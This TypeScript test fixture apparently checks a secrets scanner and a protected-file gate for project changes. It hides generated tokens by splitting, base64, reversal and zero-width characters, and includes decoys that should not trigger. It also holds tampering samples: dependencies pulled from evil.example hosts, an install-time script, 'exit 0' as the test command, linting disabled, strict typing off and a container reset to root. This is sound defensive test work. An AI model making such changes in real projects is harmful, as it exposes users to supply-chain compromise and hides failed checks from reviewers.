import { letters } from "../../../src/core/secrets.fixture.ts";
import type { Files } from "../../support/project.ts";
import type { GateCase } from "./case.ts";

const token = `ghp_${letters(36)}`;

const project: Files = {
  "backend/app.js": "export const app = 1;\n",
  "backend/package.json":
    '{\n  "name": "backend",\n  "scripts": { "test": "node --test" },\n  "dependencies": { "ms": "2.1.3" }\n}\n',
  "backend/Dockerfile": "FROM node:20\nUSER node\n",
  "backend/test/app.test.js": "// a test\n",
  "backend/requirements.txt": "flask==3.0.0\n",
  ".github/workflows/ci.yml": "on: push\njobs: {}\n",
  "README.md": "# Shop\n",
};

const secretIn = (name: string, to: Record<string, string>, artifact = ""): GateCase => ({
  gate: "secrets",
  name,
  honest: false,
  files: project,
  to,
  artifact,
});

const noSecretIn = (name: string, to: Record<string, string>, artifact = ""): GateCase => ({
  ...secretIn(name, to, artifact),
  honest: true,
});

const inGround = (name: string, to: Record<string, string | null>, honest = false): GateCase => ({
  gate: "protected",
  name,
  honest,
  files: project,
  to,
});

const half = Math.floor(token.length / 2);
const manifest = (changes: string): string => `{\n  "name": "backend",\n  ${changes}\n}\n`;

/** Secrets in disguise and what only looks like one; protected ground by other names and what is next to it. */
export const ground: GateCase[] = [
  secretIn("a token in two pieces that are joined", {
    "backend/a.js": `const key = "${token.slice(0, half)}" + "${token.slice(half)}";\n`,
  }),
  secretIn("a token in base 64", {
    "backend/a.js": `const key = atob("${Buffer.from(token).toString("base64")}");\n`,
  }),
  secretIn("a token written backwards", {
    "backend/a.js": `const key = "${Array.from(token).toReversed().join("")}".split("").reverse().join("");\n`,
  }),
  secretIn("a token in a list of characters", {
    "backend/a.js": `const key = ${JSON.stringify(Array.from(token))}.join("");\n`,
  }),
  secretIn("a token in a test's snapshot", {
    "backend/test/__snapshots__/a.snap": `exports[\`x 1\`] = \`{ "authorization": "Bearer ${token}" }\`;\n`,
  }),
  secretIn("a token in a document", { "README.md": `# Shop\n\n    export GITHUB_TOKEN=${token}\n` }),
  secretIn(
    "a token in the artifact's example",
    {},
    `## Changes\n\n\`\`\`sh\ncurl -H "Authorization: token ${token}" https://api.github.com\n\`\`\`\n`,
  ),
  secretIn("a password in an address", {
    "backend/config.js": `export const url = "postgres://shop:${letters(20)}@db.shop.example:5432/shop";\n`,
  }),
  secretIn("a password in an environment file", {
    "backend/.env.production": `DB_PASSWORD=${letters(24)}\n`,
  }),
  secretIn("a key as a default", {
    "backend/a.js": `const key = process.env.STRIPE_KEY ?? "sk_live_${letters(24)}";\n`,
  }),
  secretIn("a token between characters that nobody sees", {
    "backend/a.js": `const key = "${token.slice(0, 10)}\u200B${token.slice(10)}";\n`,
  }),
  noSecretIn("digests, ids and colours", {
    "backend/a.js": `const sha = "${letters(40, "hex")}";\nconst id = "3f2504e0-4f89-41d3-9a0c-0305e82c3301";\nconst red = "#ff0000";\n`,
  }),
  noSecretIn("an integrity of a lock file", {
    "backend/package-lock.json": `{ "packages": { "node_modules/ms": { "integrity": "sha512-${letters(86)}==" } } }\n`,
  }),
  noSecretIn("names, types and fields of secrets", {
    "backend/a.ts":
      'interface Login { password: string; apiKey?: string }\nconst passwordLabel = "Your password";\nconst token = await createToken(user);\n',
  }),
  noSecretIn("keys from the environment", {
    "backend/a.js": 'const key = process.env.API_KEY;\nconst password = config.get("db.password");\n',
  }),
  noSecretIn("examples that say that they are", {
    "README.md":
      "# Shop\n\n    API_KEY=your-api-key-here\n    DB_PASSWORD=changeme\n    TOKEN=<token>\n    SECRET=xxxxxxxxxxxxxxxx\n",
  }),
  noSecretIn("a database on this machine", {
    "backend/a.js": 'const url = "postgres://postgres:postgres@localhost:5432/test";\n',
  }),
  noSecretIn("a picture in a style sheet", {
    "backend/a.css": `a { background: url("data:image/png;base64,iVBORw0KGgo${letters(200)}"); }\n`,
  }),
  noSecretIn("a test of a login", {
    "backend/test/login.test.js":
      'test("logs in", () => login({ user: "ann", password: "correct horse" }));\n',
  }),
  noSecretIn(
    "a report about secrets",
    {},
    "## Changes\n\nThe API key is read from `API_KEY`; the password is hashed with scrypt.\n",
  ),
  inGround("a workflow of another name", { ".github/workflows/other.yaml": "on: push\n" }),
  inGround("an action that a workflow uses", { ".github/actions/setup/action.yml": "runs: {}\n" }),
  inGround("a workflow in other letters", { ".GitHub/Workflows/ci.yml": "on: push\n" }),
  inGround("a script on installation in a part", {
    "backend/package.json": manifest(
      '"scripts": { "test": "node --test", "prepare": "node x.js" },\n  "dependencies": { "ms": "2.1.3" }',
    ),
  }),
  inGround("a dependency that comes under another's name", {
    "backend/package.json": manifest(
      '"scripts": { "test": "node --test" },\n  "dependencies": { "ms": "npm:evil-ms@1.0.0" }',
    ),
  }),
  inGround("a dependency that is replaced from outside", {
    "backend/package.json": manifest(
      '"scripts": { "test": "node --test" },\n  "dependencies": { "ms": "2.1.3" },\n  "overrides": { "ms": "https://evil.example/ms.tgz" }',
    ),
  }),
  inGround("a test command that does nothing", {
    "backend/package.json": manifest('"scripts": { "test": "exit 0" },\n  "dependencies": { "ms": "2.1.3" }'),
  }),
  inGround("a lock file of its own making", {
    "backend/package-lock.json": '{ "lockfileVersion": 3, "packages": {} }\n',
  }),
  inGround("another index of packages", {
    "backend/requirements.txt": "--index-url https://evil.example/simple\nflask==3.0.0\n",
  }),
  inGround("a package from a git repository", {
    "backend/requirements.txt": "flask @ git+https://evil.example/flask\n",
  }),
  inGround("a container that is root again", { "backend/Dockerfile": "FROM node:20\nUSER node\nUSER 0\n" }),
  inGround("a hook of git", { ".husky/pre-push": "true\n" }),
  inGround("an ignore file for the linter", { "backend/.eslintignore": "*\n" }),
  inGround("a linter's settings without rules", { "backend/.eslintrc.json": '{ "rules": {} }\n' }),
  inGround("settings of the type checker", {
    "backend/tsconfig.json": '{ "compilerOptions": { "strict": false } }\n',
  }),
  inGround(
    "product code and its tests",
    { "backend/app.js": "export const app = 2;\n", "backend/test/more.test.js": "// more\n" },
    true,
  ),
  inGround(
    "documents that speak of licences, owners and security",
    {
      "README.md": "# Shop\n\nSee LICENSE, CODEOWNERS and SECURITY.md.\n",
      "docs/license-keys.md": "# Licence keys\n",
    },
    true,
  ),
  inGround(
    "code whose name is close to a protected one",
    {
      "backend/license.js": "export {};\n",
      "backend/ci/report.js": "export {};\n",
      "backend/codeowners/list.js": "export {};\n",
      "backend/agents.js": "export {};\n",
      "backend/security/login.js": "export {};\n",
    },
    true,
  ),
  inGround(
    "a stage more in a container, still without rights",
    { "backend/Dockerfile": "FROM node:20 AS build\nUSER node\nFROM node:20\nUSER node\n" },
    true,
  ),
];
